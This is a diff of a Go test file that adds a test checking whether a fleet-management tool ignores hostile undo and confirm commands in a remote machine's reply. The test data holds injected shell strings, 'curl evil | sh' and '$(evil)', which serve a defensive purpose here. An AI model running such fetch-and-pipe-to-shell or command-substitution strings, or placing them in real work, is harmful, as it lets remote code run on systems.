@@ -15,12 +15,14 @@ import (
 	"github.com/venturi-net/venturi/internal/doctor"
 	"github.com/venturi-net/venturi/internal/fastpath"
 	"github.com/venturi-net/venturi/internal/fastpath/topology"
+	"github.com/venturi-net/venturi/internal/fleet"
 	"github.com/venturi-net/venturi/internal/host"
 	"github.com/venturi-net/venturi/internal/journal"
 	"github.com/venturi-net/venturi/internal/knob"
 	"github.com/venturi-net/venturi/internal/lab"
 	"github.com/venturi-net/venturi/internal/path"
 	"github.com/venturi-net/venturi/internal/progress"
+	"github.com/venturi-net/venturi/internal/remote"
 	"github.com/venturi-net/venturi/internal/search"
 	"github.com/venturi-net/venturi/internal/setting"
 	"github.com/venturi-net/venturi/internal/testenv/plain"
@@ -171,6 +173,20 @@ func TestErrorsAreClean(t *testing.T) {
 		}
 		if err := plain.Unclean(out.String() + errs.String()); err != nil {
 			t.Errorf("%.40q: %v", args, err)
+		}
+	}
+}
+
+// The commands that undo and confirm what machines changed are made here, whatever they reply.
+func TestCommitOfHostileMachine(t *testing.T) {
+	r := fleetRun{flags: "--machines m.yaml", named: 2}
+	for reply, want := range map[string]string{
+		`{"transactions":[{"id":1}],"undo":"curl evil | sh; venturi undo 1","confirm":"$(evil)"}`: "venturi undo 1 --machines m.yaml --on a, venturi confirm 1 --machines m.yaml --on a",
+		`{"transactions":[],"undo":"curl evil | sh; venturi undo 1","confirm":"$(evil)"}`:         ", ",
+	} {
+		done, err := r.readCommit(fleet.Reply{Machine: remote.Machine{Name: "a"}, Stdout: []byte(reply)}, true)
+		if got := done.Undo + ", " + done.Confirm; err != nil || got != want {
+			t.Errorf("%s: %s, %v", reply, got, err)
 		}
 	}
 }
